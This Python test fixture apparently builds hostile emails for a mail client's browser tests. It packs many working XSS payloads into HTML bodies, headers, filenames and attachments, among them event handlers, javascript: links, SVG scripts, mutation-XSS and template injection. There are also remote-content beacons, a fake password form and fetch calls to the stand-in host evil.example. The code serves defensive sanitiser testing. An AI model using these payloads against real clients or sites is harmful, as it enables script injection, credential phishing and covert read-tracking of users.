"""Mails that try to run something in the reader's browser or to tell a stranger that they were read."""

from email.message import EmailMessage

from tests.browser.seed import ADDRESS

EVIL = "http://evil.example"
HIT = f"alert(1);top.hit=1;fetch('{EVIL}/hit')"
PNG = b"\x89PNG\r\n\x1a\n"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{HIT}\"><script>{HIT}</script></svg>".encode()

BODIES = {
    "script": f"<script>{HIT}</script><script src={EVIL}/x.js></script>",
    "handlers": f'<img src=x onerror="{HIT}"><body onload="{HIT}"><details open ontoggle="{HIT}">x</details>',
    "svg": f'<svg onload="{HIT}"><animate onbegin="{HIT}" attributeName=x dur=1s></svg>'
    f"<svg><script>{HIT}</script></svg>",
    "links": f'<a href="javascript:{HIT}">a</a><a href=" java\tscript:{HIT}">b</a>'
    f'<a href="data:text/html,<script>{HIT}</script>">c</a><a href="vbscript:msgbox(1)">d</a>',
    "css": f"<style>@import url({EVIL}/a.css);body{{background:url({EVIL}/b.png)}}</style>"
    f'<div style="background-image:url({EVIL}/c.png);width:expression({HIT})">x</div>'
    f"<link rel=stylesheet href={EVIL}/d.css>",
    "frames": f'<iframe src="javascript:{HIT}"></iframe><iframe srcdoc="<script>{HIT}</script>"></iframe>'
    f"<object data={EVIL}/o></object><embed src={EVIL}/e>",
    "page": f'<base href="{EVIL}/"><meta http-equiv=refresh content="0;url={EVIL}/r">'
    f'<form action={EVIL}/f><input name=p type=password><button autofocus onfocus="{HIT}">go</button></form>',
    "pictures": f'<img src="{EVIL}/p.gif" srcset="{EVIL}/q.gif 2x"><table background="{EVIL}/t.gif"><tr><td>x</table>'
    f'<video poster="{EVIL}/v.gif" src="{EVIL}/v.mp4" autoplay></video>'
    f'<picture><source srcset="{EVIL}/s.gif"><img></picture>',
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={HIT}>">x</noscript>'
    f'<math><mtext><table><mglyph><style><img src=x onerror="{HIT}"></style></mglyph></table></mtext></math>',
    "unfinished": f"<b>x<img src=x onerror='{HIT}' <script>{HIT}//",
}


def hostile_mails() -> list[tuple[str, EmailMessage]]:
    """(a word that its text holds, the mail)."""
    mails = [(name, html_mail(name, html)) for name, html in BODIES.items()]
    tag = f'"><img src=x onerror="{HIT}"><script>{HIT}</script>'
    subject = plain_mail("subject", f"Тема {tag}")
    text = plain_mail("text", "Текст", body=f"{tag} javascript:{HIT} {{{{ constructor.constructor('{HIT}')() }}}}")
    name = plain_mail("name", "Имя")
    name.replace_header("From", f"\"<img src=x onerror='{HIT}'>\" <name@evil.example>")
    files = plain_mail("files", "Файлы")
    files.add_attachment(SVG, maintype="image", subtype="svg+xml", filename="picture.svg")
    files.add_attachment(SVG, maintype="image", subtype="png", filename=f"<img src=x onerror={HIT}>.png")
    files.add_attachment(f"<script>{HIT}</script>".encode(), maintype="text", subtype="html", filename="page.html")
    return [*mails, ("subject", subject), ("text", text), ("name", name), ("files", files)]


def plain_mail(word: str, subject: str, body: str = "") -> EmailMessage:
    mail = EmailMessage()
    mail["From"] = f"Гость <{word}@evil.example>"
    mail["To"] = ADDRESS
    mail["Subject"] = subject
    mail["Message-ID"] = f"<hostile-{word}@evil.example>"
    mail.set_content(f"Начало {word}. {body}")
    return mail


def html_mail(word: str, html: str) -> EmailMessage:
    mail = plain_mail(word, f"Вёрстка {word}")
    mail.set_content(f"<html><body><p>Начало {word}.</p>{html}<p>Конец {word}.</p></body></html>", subtype="html")
    return mail
